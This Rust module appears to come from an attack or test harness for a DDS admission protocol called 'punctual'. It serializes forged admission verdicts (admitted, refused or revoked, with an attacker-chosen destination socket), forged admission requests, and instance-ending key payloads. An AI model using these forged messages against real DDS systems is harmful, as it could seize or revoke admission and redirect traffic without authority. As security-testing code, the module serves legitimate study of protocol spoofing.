//! What participants and a manager say to each other, written after docs/wire.md and DDS-XTypes 1.3 (XCDR version 1): only what the attacks
//! need.
use std::net::SocketAddrV4;

/// Topic and type of verdicts.
pub(crate) const VERDICT: [&str; 2] = ["punctual/admission/verdict", "punctual::admission::Verdict"];
/// Topic and type of requests.
pub(crate) const REQUEST: [&str; 2] = ["punctual/admission/request", "punctual::admission::Request"];

/// Bytes of CDR, little endian, behind their encapsulation header.
struct Cdr(Vec<u8>);

impl Cdr {
    fn new() -> Self {
        Self(vec![0, 1, 0, 0])
    }

    fn align(&mut self, to: usize) {
        let length = self.0.len() - 4;
        self.0.resize(length.next_multiple_of(to) + 4, 0);
    }

    fn word(&mut self, value: u64) {
        self.align(8);
        self.0.extend(value.to_le_bytes());
    }

    fn half(&mut self, value: u32) {
        self.align(4);
        self.0.extend(value.to_le_bytes());
    }

    fn text(&mut self, text: &str) {
        self.half(u32::try_from(text.len() + 1).unwrap());
        self.0.extend(text.as_bytes());
        self.0.push(0);
    }

    fn socket(&mut self, socket: SocketAddrV4) {
        self.0.extend(socket.ip().octets());
        self.align(2);
        self.0.extend(socket.port().to_le_bytes());
    }
}

/// What a forged verdict says.
#[derive(Clone, Copy)]
pub(crate) struct Verdict {
    pub(crate) pair: [[u8; 16]; 2],
    pub(crate) serial: u64,
    pub(crate) epoch: u64,
    /// 0 pending, 1 admitted, 2 refused, 3 revoked.
    pub(crate) state: u32,
    pub(crate) destination: SocketAddrV4,
}

impl Verdict {
    /// The payload.
    pub(crate) fn bytes(&self) -> Vec<u8> {
        let mut cdr = Cdr::new();
        self.pair.iter().for_each(|guid| cdr.0.extend(guid));
        cdr.word(self.serial);
        cdr.word(self.epoch);
        cdr.half(self.state);
        cdr.word(10_000_000);
        cdr.word(3_600_000_000_000);
        cdr.socket(self.destination);
        cdr.socket(self.destination);
        cdr.0.push(10);
        cdr.half(1_000);
        cdr.word(20_000_000);
        cdr.text("forged");
        cdr.word(0);
        cdr.word(0);
        cdr.0
    }
}

/// What a forged request says.
#[derive(Clone, Copy)]
pub(crate) struct Request {
    pub(crate) pair: [[u8; 16]; 2],
    pub(crate) serial: u64,
    pub(crate) latency: u64,
    /// Nanoseconds between two messages.
    pub(crate) separation: u64,
    pub(crate) sockets: [SocketAddrV4; 2],
    /// 0 waiting, 1 unassured, 2 assured.
    pub(crate) stage: u32,
    /// The GUID of the manager that is asked.
    pub(crate) manager: [u8; 16],
}

impl Request {
    /// The payload.
    pub(crate) fn bytes(&self) -> Vec<u8> {
        let mut cdr = Cdr::new();
        self.pair.iter().for_each(|guid| cdr.0.extend(guid));
        cdr.word(self.serial);
        cdr.text("Assured");
        [1_200, 64, 1_472].into_iter().for_each(|size| cdr.half(size));
        [self.separation, 0, 0, 0, 0].into_iter().for_each(|time| cdr.word(time));
        cdr.0.push(255);
        cdr.word(self.latency);
        cdr.word(0);
        self.sockets.into_iter().for_each(|socket| cdr.socket(socket));
        cdr.half(self.stage);
        cdr.0.extend(self.manager);
        cdr.0
    }
}

/// The payload that ends the instance of a pair: its key.
pub(crate) fn key(pair: [[u8; 16]; 2]) -> Vec<u8> {
    let mut cdr = Cdr::new();
    pair.iter().for_each(|guid| cdr.0.extend(guid));
    cdr.0
}
